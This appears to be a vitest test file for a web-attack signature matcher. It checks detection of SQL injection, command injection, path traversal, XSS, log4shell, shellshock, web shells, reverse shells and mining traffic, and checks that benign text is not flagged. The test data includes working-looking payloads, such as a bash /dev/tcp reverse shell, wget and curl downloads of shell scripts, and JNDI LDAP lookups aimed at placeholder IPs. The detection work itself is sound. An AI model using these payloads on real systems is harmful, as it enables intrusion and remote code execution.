import { describe, expect, it } from 'vitest'
import { percentDecoded } from '../../decode/http-parts.ts'
import { builtInRules } from './built-in-rules.ts'
import { signatureRule } from './rule.ts'
import type { RulePart } from './rule-part.ts'
import { RuleSet } from './rule-set.ts'

const rules = new RuleSet(builtInRules)

function kinds(part: RulePart, text: string): string[] {
  const bytes = percentDecoded(Buffer.from(text, 'latin1'))
  return rules.match(part, bytes, 0, bytes.length).map(({ rule }) => rule.kind)
}

describe('the built-in rules', () => {
  it.each<[RulePart, string, string]>([
    ['http.uri', "/item?id=1'+UNION+ALL+SELECT+user,password+FROM+users--+-", 'sql_injection'],
    ['http.uri', '/item?id=1%27%20OR%20%271%27=%271', 'sql_injection'],
    ['http.uri', '/item?id=1%2527%2520or%25201%253D1', 'sql_injection'],
    ['http.uri', '/i?id=1/**/union/**/select/**/1', 'sql_injection'],
    ['http.body', "user=admin'--&pass=x", 'sql_injection'],
    ['http.uri', '/p?id=1;waitfor delay%20%270:0:5%27', 'sql_injection'],
    ['http.uri', '/ping?host=127.0.0.1;cat%20/etc/hosts', 'command_injection'],
    ['http.body', 'ip=127.0.0.1%7Cwhoami&Submit=Submit', 'command_injection'],
    ['http.body', 'ip=;id', 'command_injection'],
    ['http.uri', '/cgi-bin/x?$(curl http://203.0.113.9/a.sh)', 'command_injection'],
    ['http.uri', '/a?f=../../../../etc/hosts', 'path_traversal'],
    ['http.uri', '/a?f=..%5c..%5c..%5cwindows%5cwin.ini', 'path_traversal'],
    ['http.uri', '/a?f=%252e%252e%252f%252e%252e%252fetc%252fhosts', 'path_traversal'],
    ['http.uri', '/s?q=%3Cscript%3Ealert(1)%3C/script%3E', 'cross_site_scripting'],
    ['http.uri', '/s?q=<img src=x onerror=alert(1)>', 'cross_site_scripting'],
    ['http.header', 'X-Api: ${jndi:ldap://203.0.113.9/a}', 'log4shell'],
    ['http.header', 'User-Agent: ${${lower:j}ndi:ldap://203.0.113.9/a}', 'log4shell'],
    ['http.header', 'User-Agent: () { :; }; /bin/ping -c1 203.0.113.9', 'shellshock'],
    ['http.header', 'User-Agent: sqlmap/1.7 (https://sqlmap.org)', 'web_scanner_agent'],
    ['http.header', 'User-Agent: Mozilla/5.00 (Nikto/2.1.6)', 'web_scanner_agent'],
    ['http.body', '<?php system($_GET["c"]); ?>', 'web_shell'],
    ['http.uri', '/up/x.php?cmd=whoami', 'web_shell'],
    ['payload', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'reverse_shell'],
    ['payload', 'uid=0(root) gid=0(root) groups=0(root)', 'reverse_shell'],
    ['payload', 'Microsoft Windows [Version 10.0.19045]\r\n(c) Microsoft', 'reverse_shell'],
    ['payload', '{"id":1,"method":"mining.subscribe","params":[]}', 'crypto_mining'],
    ['payload', 'cd /tmp || cd /var; wget http://203.0.113.9/x.sh', 'botnet_infection'],
    ['dns.name', 'eu.pool.minexmr.com', 'crypto_mining'],
  ])('find in %s: %s', (part, text, kind) => {
    expect(kinds(part, text)).toContain(kind)
  })

  it.each<[RulePart, string]>([
    ['http.body', "It's a lovely day; see you at 5 #lunch"],
    ['http.body', "We're the union; select members' dogs or cats -- and that's it"],
    ['http.body', "rock 'n' roll and sleep; rm is remove; id is identity"],
    ['http.body', 'comment=5 > 4 and 3 < 4; see 1=1 in the book; order by phone'],
    ['http.uri', '/search?q=how+to+select+a+union+representative'],
    ['http.uri', '/search?q=O%27Reilly+or+O%27Brien'],
    ['http.uri', '/a/../b/style.css'],
    ['http.uri', '/maps?ll=52.5,13.4;z=12&id=7|8|9'],
    ['http.uri', '/watch;id=5;list=12?script=javascript'],
    ['http.header', 'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101'],
    ['http.header', 'User-Agent: curl/8.5.0'],
    ['http.header', 'Cookie: theme=dark; id=42; cat=7; price=${price}'],
    ['payload', 'The command prompt of Microsoft Windows [a product] opens'],
    ['dns.name', 'www.nanopool-fans.example'],
  ])('stay silent in %s: %s', (part, text) => {
    expect(kinds(part, text)).toEqual([])
  })

  it.each([
    [100, 'union all ', '/i?id=1 union select pw from users', 'sql_injection'],
    [300, 'pg_sleep( ', ";waitfor delay '0:0:9'", 'sql_injection'],
    [700, '${date:x} ', '${${lower:j}ndi:rmi://192.0.2.7/x}', 'log4shell'],
  ])('find what follows %i decoys of %j', (count, decoy, attack, kind) => {
    expect(kinds('http.uri', decoy.repeat(count) + attack)).toContain(kind)
  })

  it('take bounded time on 64 kB made to tire them', () => {
    const tiring = builtInRules.flatMap(({ content }) => content)
    for (const literal of tiring) {
      const bytes = Buffer.from(`${literal} `.repeat(65_536 / (literal.length + 1)), 'latin1')
      for (const part of ['payload', 'http.uri', 'http.body', 'http.header'] as const) {
        rules.match(part, bytes, 0, bytes.length)
      }
    }
  }, 60_000)
})

describe('signatureRule', () => {
  it.each(builtInRules.map((rule) => [rule.id, rule]))('accepts the built-in %s', (_, rule) => {
    expect(signatureRule.safeParse(rule).error).toBeUndefined()
  })

  it('refuses a rule whose expression can backtrack without end', () => {
    const [rule] = builtInRules
    const parsed = signatureRule.safeParse({ ...rule, followedBy: '^(a+)+$' })
    expect(parsed.success).toBe(false)
  })
})
